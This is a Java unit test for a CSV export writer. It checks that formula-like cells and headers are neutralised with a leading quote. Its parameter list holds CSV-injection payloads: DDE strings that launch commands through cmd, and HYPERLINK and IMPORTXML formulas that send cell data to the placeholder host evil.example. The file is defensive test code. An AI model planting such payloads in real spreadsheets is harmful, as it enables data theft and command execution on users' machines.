package eu.buyzet.portal.shared.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvWriterTest {

    /** Payloads from OWASP's CSV injection page and public spreadsheet-injection corpora. */
    @ParameterizedTest
    @ValueSource(strings = {
            "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")", "\t=1+1", "\r=1+1", "\n=1+1",
            "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "＝1+1", "＋1", "－1", "＠SUM(A1)", "-", "=", "@"})
    void a_text_cell_a_spreadsheet_would_read_as_a_formula_starts_with_a_quote(String payload) throws IOException {
        List<CSVRecord> rows = write(List.of("name", "n"), List.of(List.of(payload, 1)));
        assertThat(rows.get(1).get(0)).isEqualTo("'" + payload);
    }

    @Test
    void header_cells_are_neutralised_too() throws IOException {
        assertThat(write(List.of("=evil", "ok"), List.of()).get(0).values()).containsExactly("'=evil", "ok");
    }

    @Test
    void ordinary_text_and_numbers_go_out_unchanged_and_negative_numbers_stay_numbers() throws IOException {
        List<CSVRecord> rows = write(List.of("a", "b", "c", "d"),
                java.util.Collections.singletonList(java.util.Arrays.asList("Grønn Håndverk AS, \"Oslo\"", -12.5, 42L, null)));
        assertThat(rows.get(1).values()).containsExactly("Grønn Håndverk AS, \"Oslo\"", "-12.5", "42", "");
    }

    @Test
    void the_file_starts_with_a_byte_order_mark_for_spreadsheets() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        CsvWriter.open(out, "a").close();
        assertThat(out.toString(StandardCharsets.UTF_8)).startsWith("\uFEFFa");
    }

    private static List<CSVRecord> write(List<String> header, List<List<?>> rows) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        CsvWriter csv = CsvWriter.open(out, header);
        rows.forEach(csv::row);
        csv.close();
        String text = out.toString(StandardCharsets.UTF_8).substring(1);
        return CSVFormat.DEFAULT.parse(new StringReader(text)).getRecords();
    }
}
